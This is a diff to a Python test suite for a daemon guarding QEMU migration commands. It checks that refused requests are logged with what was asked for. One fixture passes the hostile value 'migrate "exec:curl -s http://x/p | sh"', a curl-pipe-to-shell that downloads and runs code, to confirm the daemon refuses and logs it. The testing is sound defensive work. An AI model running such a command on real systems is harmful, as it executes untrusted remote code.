@@ -415,7 +415,7 @@ def test_only_an_operator_may_set_only_migratable_aside_with_an_internal_blocker
     desc = ("Permission denied: add-blocker with internal: true needs role operator (it is "
             f"exempt from --only-migratable), but uid {alice.uid} (mbt-alice) has role client")
     assert a.error("add-blocker", {"reason": "r", "id": "a1", "internal": True}) == desc
-    daemon.wait_for_log(f"uid {alice.uid}, gid {alice.gid}): refused add-blocker: {desc}")
+    daemon.wait_for_log(f"uid {alice.uid}, gid {alice.gid}): refused add-blocker of 'a1': {desc}")
     # What --only-migratable leaves a client: blockers of the other modes.
     assert a.error("add-blocker", {"reason": "r", "internal": False}) == (
         "disallowing migration blocker (--only-migratable) for: r")
@@ -494,7 +494,7 @@ def test_each_quota_refuses_with_its_message_and_everyone_else_is_still_served(
         f"Too many migration blockers for uid {alice.uid} (mbt-alice): it owns 2, "
         "max-blockers-per-uid is 2")
     daemon.wait_for_log(f"(pid {a.pid}, uid {alice.uid}, gid {alice.gid}): refused "
-                        "add-blocker: Too many migration blockers for")
+                        "add-blocker of 'a2': Too many migration blockers for")
     b.ok("add-blocker", {"reason": "r", "id": "b0"})  # another uid has its own count
     root.ok("add-blocker", {"reason": "r", "id": "r0"})  # admins: no per-uid limit
     root.ok("add-blocker", {"reason": "r", "id": "r1"})
@@ -856,3 +856,45 @@ def test_a_holding_block_whose_deletion_is_refused_raises(
     assert (agent.returncode, out) == (0, (
         f"refused: Permission denied: del-blocker needs role client, but uid {alice.uid} "
         "(mbt-alice) has role observer\n")), err
+
+
+def test_every_refusal_names_what_was_asked_for_in_its_log_line(
+        serve: Callable[..., DaemonProcess], connect: ClientFactory,
+        accounts: dict[str, Account], qemu: Qemu) -> None:
+    # Reproduced first: a refused human-monitor-command did not show its command line,
+    # a refused migrate-set-parameters not the mode asked for, a refused add-blocker
+    # (for the role, internal: true, a quota) not its id, nor had a blocker_id field.
+    config = ('qemu-passthrough = ["human-monitor-command"]\nmax-reason-length = 8\n'
+              + POLICY)
+    daemon = serve(config, "--qemu", str(qemu.gate_socket), "--log-format", "json")
+    daemon.wait_for_log("connected to QEMU")
+    bob, olga = accounts["mbt-bob"], accounts["mbt-olga"]  # client, observer
+    b, o = connect(daemon, bob), connect(daemon, olga)
+    hmp = {"command-line": 'migrate "exec:curl -s http://x/p | sh"'}
+    assert b.error("human-monitor-command", hmp).startswith("Permission denied")
+    assert b.error("migrate-set-parameters", {"mode": "cpr-reboot"}).startswith(
+        "Permission denied")
+    assert b.error("migrate-set-capabilities", {"capabilities": [
+        {"capability": "events", "state": True}]}).startswith("Permission denied")
+    assert b.error("add-blocker", {"reason": "r", "id": "disk0", "internal": True}).startswith(
+        "Permission denied: add-blocker with internal: true")
+    assert b.error("add-blocker", {"reason": "r" * 9, "id": "disk1"}).startswith(
+        "Parameter 'reason' is too long")
+    assert o.error("add-blocker", {"reason": "r", "id": "disk2"}).startswith(
+        "Permission denied: add-blocker needs role client")
+    assert o.error("add-blocker", {"reason": "r"}).startswith("Permission denied")
+    connect(daemon, 0, 0).ok("add-blocker", {"reason": "r", "id": "after"})
+    daemon.wait_for_log("added blocker after")  # the log has every line before it
+    refused = [r for r in map(json.loads, daemon.log().splitlines())
+               if ": refused " in r["message"]]
+    assert [(r["peer_uid"], r["message"].split(": refused ")[1].split(": ")[0],
+             r.get("blocker_id")) for r in refused] == [
+        (bob.uid, "human-monitor-command with command-line 'migrate \"exec:curl -s "
+         "http://x/p | sh\"'", None),
+        (bob.uid, 'migrate-set-parameters with {"mode":"cpr-reboot"}', None),
+        (bob.uid, 'migrate-set-capabilities with [{"capability":"events",'
+         '"state":true}]', None),
+        (bob.uid, "add-blocker of 'disk0'", "disk0"),
+        (bob.uid, "add-blocker of 'disk1'", "disk1"),
+        (olga.uid, "add-blocker of 'disk2'", "disk2"),
+        (olga.uid, "add-blocker", None)]
